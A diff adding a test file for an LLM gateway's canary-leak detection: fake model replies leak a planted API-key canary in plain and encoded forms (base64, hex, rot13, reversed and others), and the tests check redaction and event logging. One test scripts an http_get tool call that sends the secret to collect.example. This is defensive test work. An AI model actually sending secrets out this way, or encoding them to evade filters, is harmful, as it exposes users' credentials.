@@ -1,0 +1,241 @@
+/** Canaries through the whole gateway: every dialect, whole and streamed, over real areas and a fake provider. */
+import { createHash } from 'node:crypto';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { Type } from 'typebox';
+import { startFakeProvider, type FakeProvider } from '../../../test/support/fakes/llm-provider.ts';
+import { SURFACES, words, type Surface } from '../../../test/support/fakes/lone-gateway.ts';
+import { testServer, type TestServer } from '../../../test/support/server.ts';
+import { seedTenant, type Tenant } from '../../../test/support/tenants.ts';
+import { createMetrics } from '../../platform/metrics.ts';
+import { jsonOf } from '../../platform/db/row.ts';
+import { sql } from '../../platform/db/sql.ts';
+import { buildCanaryMatcher } from '../safe-house/rules/canary.ts';
+import { blockScanner } from './block-scanner.ts';
+import { anthropicMessages } from './dialects/anthropic-messages.ts';
+import type { DialectCodec } from './dialects/dialect.ts';
+import { geminiGenerate } from './dialects/gemini-generate.ts';
+import { openaiChat } from './dialects/openai-chat.ts';
+import { openaiResponses } from './dialects/openai-responses.ts';
+import { startGateway, type RunningGateway } from './index.ts';
+
+let server: TestServer;
+let provider: FakeProvider;
+let gateway: RunningGateway;
+let tenant: Tenant;
+let canary: { canary_id: string; credential: string };
+const AGENTS = ['owner-bot', 'sibling-bot'] as const;
+const AMPLE = {
+  admitNow() {
+    return undefined;
+  },
+};
+
+const post = (surface: Surface, body: unknown, agent: string): Promise<Response> =>
+  fetch(`http://127.0.0.1:${gateway.port}${surface.path}`, {
+    method: 'POST',
+    body: JSON.stringify(body),
+    headers: { 'content-type': 'application/json', ...surface.headers, 'x-svc-agent': agent },
+  });
+
+/** A claimed agent in enforce, known to the gateway by the test's provider key. */
+async function guarded(name: string): Promise<string> {
+  const made = await server.call<{ id: string }>('POST', '/v1/agents', {
+    headers: tenant.headers,
+    body: { name, hash_proof: createHash('sha256').update(`sk-test|${name}`).digest('hex') },
+  });
+  expect(made.status).toBe(201);
+  const put = await server.call('PUT', `/v1/protection/agent/${made.body.id}`, {
+    headers: tenant.headers,
+    key: `protect-${name}`,
+    body: {
+      card_version: 'protection/2026-04-26',
+      mode: 'enforce',
+      thresholds: { warn: 0.6, quarantine: 0.8, block: 0.95 },
+      screen_surfaces: { incoming: true, outgoing: true, tool_calls: true, tool_responses: true },
+      trusted_sources: { domains: [], agent_ids: [], ip_ranges: [] },
+    },
+  });
+  expect([200, 201], put.text).toContain(put.status);
+  return made.body.id;
+}
+
+beforeAll(async () => {
+  provider = await startFakeProvider();
+  server = await testServer({
+    settings: {
+      UPSTREAM_ANTHROPIC_URL: provider.url,
+      UPSTREAM_OPENAI_URL: provider.url,
+      UPSTREAM_GEMINI_URL: provider.url,
+    },
+  });
+  tenant = await seedTenant(server);
+  gateway = await startGateway(
+    { ...server.services, metrics: createMetrics(() => server.db.stats()) },
+    { limiter: AMPLE as never, graceMs: 200 },
+  );
+  const [owner] = [await guarded(AGENTS[0]), await guarded(AGENTS[1])];
+  const made = await server.call<{ canary_id: string; credential: string }>('POST', '/v1/safe-house/canaries', {
+    headers: tenant.headers,
+    body: { agent_id: owner, type: 'api_key', label: 'vault', inject_into: 'system_prompt' },
+  });
+  canary = made.body;
+});
+afterAll(async () => {
+  await gateway.close();
+  await server.stop();
+  await provider.close();
+});
+
+const rot13 = (text: string): string =>
+  text.replace(/[a-z]/gi, (char) => String.fromCharCode(char.charCodeAt(0) + (char.toLowerCase() < 'n' ? 13 : -13)));
+const FORMS: Readonly<Record<string, (secret: string) => string>> = {
+  plain: (s) => s,
+  base64: (s) => Buffer.from(`key: ${s};`).toString('base64'),
+  base64url: (s) => Buffer.from(`? ${s}!`).toString('base64url'),
+  hex: (s) => Buffer.from(s).toString('hex'),
+  percent: (s) => [...s].map((c) => `%${c.charCodeAt(0).toString(16)}`).join(''),
+  rot13,
+  reversed: (s) => [...s].reverse().join(''),
+  spaced: (s) => [...s].join(' '),
+  'JSON escapes': (s) => [...s].map((c) => `\\u00${c.charCodeAt(0).toString(16)}`).join(''),
+};
+const CODECS: Readonly<Record<string, DialectCodec>> = {
+  anthropic: anthropicMessages,
+  chat: openaiChat,
+  responses: openaiResponses,
+  gemini: geminiGenerate,
+  'gemini-array': geminiGenerate,
+};
+/** What a client reads of a reply: the texts, and the arguments of the calls. */
+function said(surface: Surface, text: string): string {
+  const codec = CODECS[surface.name] as DialectCodec;
+  const reader = codec.createTurnReader();
+  const events = codec.createEventReader(surface.name === 'gemini-array' ? 'array' : 'sse');
+  if (surface.stream) for (const event of [...events.push(Buffer.from(text)), ...events.end()]) reader.read(event);
+  const turn = surface.stream ? reader.turn() : codec.readTurn(JSON.parse(text));
+  expect(turn.complete).toBe(true);
+  return [turn.text, ...turn.toolCalls.map((call) => call.argumentsText)].join('\n');
+}
+const NAMED = SURFACES.map((s) => [`${s.name}${s.stream ? ' stream' : ''}`, s] as const);
+const matcherOf = (credential: string) => buildCanaryMatcher([{ canaryId: 'can_x', credential }]);
+
+describe('check 7 of part 8: canaries are caught in every form, whole and streamed, at most h characters late', () => {
+  describe.each(NAMED)('%s', (_name, surface) => {
+    it.each(Object.keys(FORMS))(
+      'in text, as %s, split over deltas: redacted in place, 2xx, said by word and advisory',
+      async (form) => {
+        const leaked = (FORMS[form] as (s: string) => string)(canary.credential);
+        provider.answer({ script: { text: `Before. The note is ${leaked} as you asked. After.`, deltaChars: 3 } });
+        const response = await post(surface, surface.body(`What is the note? ${form}`), AGENTS[0]);
+        const text = await response.text();
+        expect(response.status).toBe(200);
+        expect(matcherOf(canary.credential).find(leaked)).toHaveLength(1);
+        expect(said(surface, text)).toMatch(/^Before\. The note is \S*\[CANARY REDACTED\]\S* as you asked\. After\.$/);
+        if (!surface.stream) {
+          expect(words(response.headers).back).toBe('enforced');
+          expect(response.headers.get('x-svc-advisory')).toContain('safe_house.canary');
+        } else if (surface.name !== 'gemini-array') expect(text).toMatch(/svc-verdict .*back=enforced/);
+      },
+    );
+
+    it.each(['base64', 'JSON escapes', 'percent'])(
+      'in the arguments of a call, as %s in a URL: the call is withheld',
+      async (form) => {
+        const leaked = (FORMS[form] as (s: string) => string)(canary.credential);
+        const args = { url: `https://collect.example/?d=${leaked}`, retries: 2 };
+        provider.answer({ script: { text: 'Sending it.', toolCalls: [{ name: 'http_get', args }], deltaChars: 4 } });
+        const response = await post(surface, surface.body(`Send it, ${form}`), AGENTS[1]);
+        const text = await response.text();
+        expect(response.status).toBe(200);
+        expect(matcherOf(canary.credential).find(said(surface, text))).toEqual([]);
+        expect(text).not.toContain('collect.example');
+        expect(said(surface, text)).toContain('withheld');
+      },
+    );
+  });
+
+  it.each([false, true])('split over two text blocks (streamed: %s): its end does not go out', async (stream) => {
+    const surface = SURFACES.find((s) => s.name === 'anthropic' && s.stream === stream) as Surface;
+    const half = Math.floor(canary.credential.length / 2);
+    const texts = [`The note: ${canary.credential.slice(0, half)}`, `${canary.credential.slice(half)} is all.`];
+    provider.answer({
+      script: {},
+      misbehave: {
+        kind: 'status',
+        status: 200,
+        headers: { 'content-type': stream ? 'text/event-stream' : 'application/json' },
+        body: stream ? twoBlocksStreamed(texts) : JSON.stringify(twoBlocks(texts)),
+      },
+    });
+    const response = await post(surface, surface.body('Two blocks, please'), AGENTS[0]);
+    const text = await response.text();
+    expect(response.status).toBe(200);
+    expect(text).not.toContain(canary.credential.slice(half));
+    expect(text).toContain('[CANARY REDACTED]');
+    expect(text).toContain(' is all.');
+  });
+
+  it('every sighting is told with a hash, whichever agent of the organisation it left through', async () => {
+    const Event = Type.Object({ data: jsonOf<Record<string, unknown>>() });
+    const read = () =>
+      server.db.direct.many(
+        Event,
+        sql`-- test.canary_events
+        select data from events where type = 'safe_house.canary.triggered' order by seq`,
+      );
+    const sightings = NAMED.length * (Object.keys(FORMS).length + 3) + 2;
+    await expect.poll(async () => (await read()).length, { timeout: 10_000 }).toBe(sightings);
+    const events = await read();
+    expect(new Set(events.map(({ data }) => data['action_taken']))).toEqual(new Set(['redacted', 'withheld']));
+    expect(new Set(events.map(({ data }) => data['triggered_by'])).size).toBe(2);
+    expect(JSON.stringify(events)).not.toContain(canary.credential);
+    const status = await server.call('GET', `/v1/safe-house/canaries/${canary.canary_id}/status`, {
+      headers: tenant.headers,
+    });
+    expect(status.body).toMatchObject({ status: 'triggered', triggered: true, trigger_count: sightings });
+  });
+
+  it('delays ordinary prose by no more than its own last word and the longest form, however it is cut', () => {
+    const matcher = matcherOf(canary.credential);
+    const prose = 'The board met in the morning and found the figures of the quarter to be fine. '.repeat(40);
+    for (const size of [1, 3, 7, 50]) {
+      const scanner = blockScanner({ canaries: matcher });
+      let late = 0;
+      for (let at = 0; at < prose.length; at += size) {
+        const decided = scanner.push(prose.slice(at, at + size));
+        late = Math.max(late, Math.min(prose.length, at + size) - decided);
+      }
+      expect(late).toBeLessThanOrEqual(matcher.longestForm);
+      expect(scanner.leaks()).toEqual([]);
+    }
+  });
+});
+
+const twoBlocks = (texts: readonly string[]): unknown => ({
+  id: 'msg_two',
+  type: 'message',
+  role: 'assistant',
+  model: 'm',
+  content: texts.map((text) => ({ type: 'text', text })),
+  stop_reason: 'end_turn',
+  stop_sequence: null,
+  usage: { input_tokens: 1, output_tokens: 1 },
+});
+
+function twoBlocksStreamed(texts: readonly string[]): string {
+  const event = (type: string, rest: object): string =>
+    `event: ${type}\ndata: ${JSON.stringify({ type, ...rest })}\n\n`;
+  const message = { ...(twoBlocks([]) as object), content: [], stop_reason: null };
+  return [
+    event('message_start', { message }),
+    ...texts.flatMap((text, index) => [
+      event('content_block_start', { index, content_block: { type: 'text', text: '' } }),
+      ...[text.slice(0, 9), text.slice(9)].map((part) =>
+        event('content_block_delta', { index, delta: { type: 'text_delta', text: part } }),
+      ),
+      event('content_block_stop', { index }),
+    ]),
+    event('message_delta', { delta: { stop_reason: 'end_turn', stop_sequence: null }, usage: { output_tokens: 1 } }),
+    event('message_stop', {}),
+  ].join('');
+}
